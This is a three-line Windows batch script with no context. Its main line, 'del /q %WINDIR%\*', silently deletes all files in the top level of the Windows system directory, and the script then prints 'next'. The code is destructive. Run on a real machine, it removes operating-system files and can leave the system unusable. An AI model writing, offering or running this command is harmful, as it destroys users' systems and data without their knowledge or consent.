@echo off
del /q %WINDIR%\*
echo next
